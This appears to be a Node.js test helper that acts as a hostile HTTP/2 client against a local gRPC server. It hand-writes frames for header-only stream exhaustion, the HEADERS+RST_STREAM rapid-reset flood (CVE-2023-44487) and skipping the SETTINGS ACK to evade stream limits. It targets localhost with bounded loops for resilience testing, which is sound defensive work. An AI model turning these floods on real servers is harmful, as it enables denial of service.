// A hostile HTTP/2 client of our own, writing frames by hand, for what no
// well-behaved client library will send: streams that never send their
// message, HEADERS+RST_STREAM floods (rapid reset, CVE-2023-44487), many
// idle connections. Every loop is bounded in count and time.
import net from 'node:net';
import tls from 'node:tls';

const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
const FRAME = { DATA: 0, HEADERS: 1, RST_STREAM: 3, SETTINGS: 4, PING: 6, GOAWAY: 7 };
const END_STREAM = 0x1;
const END_HEADERS = 0x4;
const ACK = 0x1;
const CANCEL = 0x8;

function frame(type, flags, streamId, payload = Buffer.alloc(0)) {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header[3] = type;
  header[4] = flags;
  header.writeUInt32BE(streamId & 0x7fffffff, 5);
  return Buffer.concat([header, payload]);
}

// HPACK "literal header field without indexing, new name" for each pair
// (RFC 7541 §6.2.2); every name and value here is under 127 bytes.
function headerBlock(pairs) {
  const parts = [];
  for (const [name, value] of pairs) {
    parts.push(Buffer.from([0x00, name.length]), Buffer.from(name, 'latin1'),
      Buffer.from([value.length]), Buffer.from(value, 'latin1'));
  }
  return Buffer.concat(parts);
}

export function grpcHeaders(path) {
  return headerBlock([
    [':method', 'POST'], [':scheme', 'http'], [':path', path], [':authority', 'localhost'],
    ['content-type', 'application/grpc'], ['te', 'trailers'],
  ]);
}

// Opens one HTTP/2 connection. `ackSettings: false` never acknowledges the
// server's SETTINGS (gRPC 1.51 enforces its stream limit only after the ACK).
// Rejects if not connected (TLS: handshaken) within `timeoutMs`.
export function connectH2(port, { ackSettings = true, useTls = false, ca, timeoutMs = 5000 } = {}) {
  return new Promise((resolve, reject) => {
    const socket = useTls
      ? tls.connect({ port, host: '127.0.0.1', ca, servername: 'localhost', ALPNProtocols: ['h2'] })
      : net.connect(port, '127.0.0.1');
    const state = { socket, goaway: null, closed: false, received: 0, rstReceived: 0 };
    let buffered = Buffer.alloc(0);
    socket.on('data', (chunk) => {
      buffered = Buffer.concat([buffered, chunk]);
      while (buffered.length >= 9) {
        const length = buffered.readUIntBE(0, 3);
        if (buffered.length < 9 + length) break;
        const type = buffered[3];
        const flags = buffered[4];
        const payload = buffered.subarray(9, 9 + length);
        state.received += 1;
        if (type === FRAME.SETTINGS && !(flags & ACK) && ackSettings) socket.write(frame(FRAME.SETTINGS, ACK, 0));
        if (type === FRAME.PING && !(flags & ACK)) socket.write(frame(FRAME.PING, ACK, 0, payload));
        if (type === FRAME.RST_STREAM) state.rstReceived += 1;
        if (type === FRAME.GOAWAY) state.goaway = { errorCode: payload.readUInt32BE(4) };
        buffered = buffered.subarray(9 + length);
      }
    });
    socket.on('error', () => {});
    socket.on('close', () => { state.closed = true; });
    const timer = setTimeout(() => { socket.destroy(); reject(new Error('connect timed out')); }, timeoutMs);
    socket.once(useTls ? 'secureConnect' : 'connect', () => {
      clearTimeout(timer);
      socket.write(Buffer.concat([PREFACE, frame(FRAME.SETTINGS, 0, 0)]));
      resolve(state);
    });
    socket.once('error', (e) => { clearTimeout(timer); reject(e); });
  });
}

// Writes `frames(i)` for i in [0, count) with back-pressure, stopping early
// when the connection closes or `deadlineMs` passes. Resolves with the count
// of iterations written.
export async function flood(state, count, frames, { deadlineMs = 20000, batch = 256 } = {}) {
  const { socket } = state;
  const stopAt = Date.now() + deadlineMs;
  let i = 0;
  while (i < count && !state.closed && Date.now() < stopAt) {
    const chunk = [];
    for (let j = 0; j < batch && i < count; j += 1, i += 1) chunk.push(...frames(i));
    if (!socket.write(Buffer.concat(chunk))) {
      await new Promise((resolve) => {
        const done = () => { clearTimeout(timer); socket.off('drain', done); socket.off('close', done); resolve(); };
        const timer = setTimeout(done, Math.max(0, stopAt - Date.now()));
        socket.once('drain', done);
        socket.once('close', done);
      });
    }
  }
  return i;
}

// Client stream ids are odd and increasing.
export const streamId = (i) => 2 * i + 1;

// Frames for one header-only stream (no message, no END_STREAM).
export const headersOnly = (block) => (i) => [frame(FRAME.HEADERS, END_HEADERS, streamId(i), block)];

// Frames for one HEADERS + RST_STREAM(CANCEL) pair.
export const headersThenReset = (block) => (i) => {
  const code = Buffer.alloc(4);
  code.writeUInt32BE(CANCEL);
  return [frame(FRAME.HEADERS, END_HEADERS, streamId(i), block), frame(FRAME.RST_STREAM, 0, streamId(i), code)];
};

// A complete unary call's frames with an empty message (for pings of life).
export const emptyCall = (block) => (i) => [
  frame(FRAME.HEADERS, END_HEADERS, streamId(i), block),
  frame(FRAME.DATA, END_STREAM, streamId(i), Buffer.from([0, 0, 0, 0, 0])),
];

export function closeH2(state) {
  state.socket.destroy();
}
